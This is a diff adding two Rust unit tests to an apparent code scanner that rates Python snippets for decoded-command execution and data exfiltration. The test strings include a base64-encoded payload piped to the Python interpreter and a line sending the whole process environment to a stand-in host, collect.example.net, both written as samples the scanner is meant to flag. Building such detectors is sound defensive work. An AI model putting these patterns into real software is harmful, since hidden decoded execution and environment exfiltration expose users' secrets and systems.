@@ -2279,3 +2279,52 @@ fn a_pattern_built_from_decoded_constants_does_not_decode_what_it_matches() {
         assert!(level(&hidden) >= Some(Severity::High), "{hidden}");
     }
 }
+
+/// What a process runs is its command. A sandbox runner that writes the
+/// caller's base64 input to the child's stdin file, or an installer that
+/// starts a tool in the folder it downloaded, runs no decoded or downloaded
+/// command. Decoded text fed to an interpreter's stdin is code, though.
+/// Both front-ends. Written for the test.
+#[test]
+fn a_process_command_is_not_its_stdin_or_folder() {
+    let runner = "import base64, subprocess, tempfile\ndef run(req):\n    \
+                  with tempfile.TemporaryFile() as stdin:\n        \
+                  stdin.write(base64.b64decode(req['stdin']))\n        \
+                  return subprocess.Popen(req['argv'], stdin=stdin, stdout=subprocess.PIPE)\n";
+    let installer = "import subprocess, urllib.request\ndef setup(url):\n    \
+                     folder = urllib.request.urlopen(url).read().decode()\n    \
+                     subprocess.call(['make'], cwd=folder)\n";
+    let piped = "import base64, subprocess, sys\nCODE = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='\ndef go():\n    \
+                 subprocess.run([sys.executable, '-'], input=base64.b64decode(CODE))\n";
+    for tail in ["", "print 'py2'\n"] {
+        let runner = format!("{runner}{tail}");
+        assert_eq!(severity_of("sandbox/_exec.py", &runner, "process-decoded"), None, "{runner}");
+        let installer = format!("{installer}{tail}");
+        assert_eq!(severity_of("tool/install.py", &installer, "process-decoded"), None, "{installer}");
+        let piped = format!("{piped}{tail}");
+        assert_eq!(severity_of("tool/go.py", &piped, "process-decoded"), Some(Severity::Critical), "{piped}");
+        // The same decoded text given as the command is one.
+        let command = runner.replace("req['argv'], stdin=stdin", "base64.b64decode(req['argv'])");
+        assert_eq!(severity_of("sandbox/_exec.py", &command, "process-decoded"), Some(Severity::Critical), "{command}");
+    }
+}
+
+/// `x if cond else y` carries x or y, never the condition: a probe of the
+/// public index made only when the environment names no mirror sends
+/// nothing of the environment. Both front-ends. Written for the test.
+#[test]
+fn a_conditional_value_does_not_carry_its_condition() {
+    let probe = "import os, urllib.request\ndef probe():\n    config = dict(os.environ)\n    \
+                 urls = [] if config['PIP_MIRROR'] else ['https://pypi.org/simple/']\n    \
+                 for url in urls:\n        urllib.request.urlopen(url)\n";
+    for tail in ["", "print 'py2'\n"] {
+        let src = format!("{probe}{tail}");
+        assert_eq!(severity_of("tool/probe.py", &src, "exfiltration"), None, "{src}");
+        // The environment in the value itself is still sent.
+        let sent = src.replace(
+            "[] if config['PIP_MIRROR'] else ['https://pypi.org/simple/']",
+            "['https://collect.example.net/?e=' + str(config)] if config else []",
+        );
+        assert!(severity_of("tool/probe.py", &sent, "exfiltration").is_some(), "{sent}");
+    }
+}
